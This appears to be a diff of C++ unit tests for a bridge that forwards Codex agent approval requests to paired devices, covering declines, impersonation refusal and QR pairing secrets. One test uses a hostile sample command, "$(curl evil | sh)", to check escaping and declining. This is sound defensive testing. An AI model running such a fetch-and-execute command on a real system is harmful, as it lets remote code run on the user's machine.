-                link->deliver(answerer,
-                              makeMessage(BridgeMessageKind::serverResponse, id, {}, answer));
+            for (const JSONValue& refused : c.refused) {
+                sendAnswer(answerer, id, refused);
                 EXPECT_EQ(lastSentTo(answerer),
-                          makeMessage(BridgeMessageKind::error, id, {},
-                                      ErrorBody::make(ErrorCode::notOffered,
+                          refusal(id, ErrorBody::make(ErrorCode::notOffered,
                                                       "Codex did not offer that decision for "
                                                       "this question.",
                                                       answerer == phone->peer ? 2 : 1)));
             }
             EXPECT_TRUE(appServer->replies.empty());
             EXPECT_EQ(controller->pendingServerRequestCount(), 1u);
-            link->deliver(answerer,
-                          makeMessage(BridgeMessageKind::serverResponse, id, {}, c.answer));
+            sendAnswer(answerer, id, c.answer);
             ASSERT_EQ(appServer->replies.size(), 1u);
             EXPECT_EQ(appServer->replies[0].id, JSONValue(7));
             EXPECT_EQ(appServer->replies[0].result, c.passed);
@@ -1190,7 +1125,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     std::vector<WaitingQuestion> waiting;
     QObject::connect(&controller->approvals(), &ApprovalRouter::waitingStarted, controller.get(),
                      [&](const WaitingQuestion& question) { waiting.push_back(question); });
-
     // Asked while no device is connected: it waits, and the person is told what it is about,
     // Codex's text made visible (no raw line break reaches a notification or the log).
     const std::string hostile = "echo \"hi\"\n$(curl evil | sh) `id`";
@@ -1202,7 +1136,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     EXPECT_EQ(waiting[0].threadID, "t1");
     EXPECT_EQ(waiting[0].shown.find('\n'), std::string::npos);
     EXPECT_NE(waiting[0].shown.find("\\u{000A}"), std::string::npos) << waiting[0].shown;
-
     // A device comes back in time: it is shown the question, which no longer waits; when it
     // leaves again the wait starts over.
     now += 9min;
@@ -1216,11 +1149,10 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     EXPECT_TRUE(appServer->replies.empty());
     now += 1min;
     ASSERT_TRUE(waitUntil([&] { return !appServer->replies.empty(); }));
-    EXPECT_EQ(appServer->replies[0].result, JSONValue(JSONObject{{"decision", "decline"}}));
+    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
     EXPECT_EQ(ended.size(), 2);
     EXPECT_EQ(controller->logs().front().find('\n'), std::string::npos);
     EXPECT_EQ(controller->logs().front().rfind("Declined the command \"echo ", 0), 0u);
-
     // No limit: it waits as long as Codex does; a limit of zero declines at once, and then
     // declines at once what is asked while nobody is there, without a wait.
     controller->approvals().setWaitLimit(std::nullopt);
@@ -1244,7 +1176,6 @@ TEST_F(ApprovalsTest, AQuestionWaitsForAPairedDeviceAndTheLimitDeclinesIt) {
     appServer->ask(JSONValue(2), fileMethod, JSONObject{});
     ASSERT_EQ(appServer->replies.size(), 3u);
     EXPECT_EQ(started.size(), 3);
-
     // A turn that ends with nobody connected is news for the person.
     appServer->notify("turn/completed",
                       JSONObject{{"threadId", "t1"}, {"turn", JSONObject{{"id", "u1"}}}});
@@ -1269,7 +1200,7 @@ TEST_F(BridgeControllerTest, ASecondHelloNeitherMovesAuthorityNorShieldsItFromFo
     }
     EXPECT_EQ(link->closedByOwner.back(), device.peer);
     EXPECT_EQ(link->closeCodes.back(), SessionClose::forgotten);
-    link->deliver(device.peer, makeMessage(BridgeMessageKind::request, "r", "thread/list"));
+    sendRequest(device.peer, "r", "thread/list");
     EXPECT_TRUE(appServer->requests.empty());
 }
 
@@ -1287,7 +1218,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
         EXPECT_EQ(link->closeCodes.back(), SessionClose::policyViolation);
         EXPECT_TRUE(controller->pairingRequests().empty());
     };
-
     // A stranger under the name, and a trusted device of another ID that takes it: each is
     // refused at its hello (version 1) or proof (version 2), before it could ask to pair.
     auto& stranger = connectDevice("Phone");
@@ -1299,7 +1229,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
     refusedAs(strangeWatch->peer, "Watch");
     EXPECT_FALSE(lastOfKind(strangeWatch->peer, BridgeMessageKind::pairingAccepted));
     EXPECT_EQ(controller->authorizedPeerNames(), (std::set<std::string>{"Phone", "Watch"}));
-
     // The device itself coming back replaces its older session, and the older one hears why.
     const PeerHandle older = phone.peer;
     phone.peer = link->connect("Phone");
@@ -1308,10 +1237,8 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
     EXPECT_EQ(controller->logs().front(), "Authenticated Phone.");
     EXPECT_EQ(link->closedByOwner.back(), older);
     EXPECT_EQ(link->closeCodes.back(), SessionClose::replaced);
-
     // A card shown while the device was away goes when the device comes back.
-    auto& early = connectDevice("Tablet");
-    ask(early.peer);
+    auto& early = requestPairing("Tablet");
     ASSERT_EQ(controller->pairingRequests().size(), 1u);
     tablet.peer = link->connect("Tablet");
     hello(tablet.peer, tablet.signer.hello("Tablet"));
@@ -1323,7 +1250,6 @@ TEST_F(HandshakeV2Test, ANamesakeOfAConnectedDeviceIsRefusedUnlessItProvesToBeIt
     EXPECT_TRUE(appServer->requests.empty());
 }
 
-// ---------------------------------------------------------------------------------------------
 // Pairing by QR code
 
 namespace {
@@ -1340,7 +1266,6 @@ std::string secretBytes(const std::string& base64Url) {
 class QrPairingTest : public HandshakeV2Test {
 protected:
     QrPairingTest() { link->web = "https://192.0.2.7:50123/"; }
-
     // Opens the panel and gives the secret's bytes from the address it shows.
     std::string openPanel() {
         const std::string url = controller->openPhonePairing().toStdString();
@@ -1371,7 +1296,6 @@ TEST(PhonePairingSecretTest, LivesFiveMinutesAndBurnsOnUseCloseAndReplacementBut
     const std::string text = "tarnwick-v2-qr-pairing|1:x";
     EXPECT_FALSE(secret.isOpen());
     EXPECT_FALSE(secret.use(text, qrPairingProof("", text)));
-
     const std::string shown = secret.open();
     EXPECT_EQ(shown.size(), 43u);
     EXPECT_EQ(shown.find_first_of("+/="), std::string::npos);
@@ -1388,15 +1312,12 @@ TEST(PhonePairingSecretTest, LivesFiveMinutesAndBurnsOnUseCloseAndReplacementBut
     EXPECT_TRUE(secret.use(text, proof));
     EXPECT_FALSE(secret.isOpen());
     EXPECT_FALSE(secret.use(text, proof)) << "used once";
-
     const std::string expiring = secretBytes(secret.open());
     now += PhonePairingSecret::lifetime;
     EXPECT_FALSE(secret.use(text, qrPairingProof(expiring, text))) << "expired";
-
     const std::string closed = secretBytes(secret.open());
     secret.close();
     EXPECT_FALSE(secret.use(text, qrPairingProof(closed, text))) << "closed";
-
     const std::string older = secretBytes(secret.open());
     const std::string newer = secretBytes(secret.open());
     EXPECT_NE(older, newer);
@@ -1418,9 +1339,8 @@ TEST_F(QrPairingTest, AProvenPhoneWithTheSecretIsTrustedWithoutACardAndTheSecret
     EXPECT_TRUE(controller->pairingRequests().empty());
     EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
     EXPECT_EQ(trustStore->peers.at(phone->signer.deviceID()).protocolVersion, 2);
-    link->deliver(phone->peer, makeMessage(BridgeMessageKind::request, "r", "thread/list"));
+    sendRequest(phone->peer, "r", "thread/list");
     EXPECT_EQ(appServer->requests.size(), 1u);
-
     // Someone who saw the code too late: it has been used.
     auto late = connectV2("Late", "");
     proveSecret(*late, secret);
@@ -1450,20 +1370,17 @@ TEST_F(QrPairingTest, AWrongExpiredOrClosedSecretIsRefusedAndAStrangerSpoilsNoth
     // The user's code still works, for a native device that names the certificate too.
     proveSecret(*phone, secret);
     EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
-
     auto closedOut = connectV2("Closed", "");
     const std::string closed = openPanel();
     controller->closePhonePairing();
     proveSecret(*closedOut, closed);
     EXPECT_TRUE(refused(*closedOut, "Closed"));
-
     // The secret expires by the controller's clock (a replaced one: PhonePairingSecretTest).
     auto slow = connectV2("Slow", "");
     const std::string newer = openPanel();
     now += std::chrono::minutes(5);
     proveSecret(*slow, newer);
     EXPECT_TRUE(refused(*slow, "Slow"));
-
     // Without an address to show, nothing is opened.
     link->web.clear();
     EXPECT_TRUE(controller->openPhonePairing().isEmpty());
@@ -1481,7 +1398,6 @@ TEST_F(QrPairingTest, ProofsAreBoundedPerConnectionAndNeedAProvenUntrustedSessio
     EXPECT_EQ(controller->logs().size(), logged) << "ignored beyond the bound";
     EXPECT_EQ(link->sentTo(guesser->peer).size(), answered);
     EXPECT_FALSE(trustStore->peers.contains(guesser->signer.deviceID()));
-
     // Before its proof a connection cannot pair, and its attempt does not burn the secret.
     auto unproven = std::make_unique<V2Device>();
     unproven->peer = link->connect("Unproven", 2);
@@ -1493,7 +1409,6 @@ TEST_F(QrPairingTest, ProofsAreBoundedPerConnectionAndNeedAProvenUntrustedSessio
     proveSecret(*unproven, secret);
     EXPECT_FALSE(lastOfKind(unproven->peer, BridgeMessageKind::pairingAccepted));
     EXPECT_FALSE(trustStore->peers.contains(unproven->signer.deviceID()));
-
     auto phone = connectV2("Phone", "");
     proveSecret(*phone, secret);
     EXPECT_EQ(controller->logs().front(), "Paired Phone by QR code.");
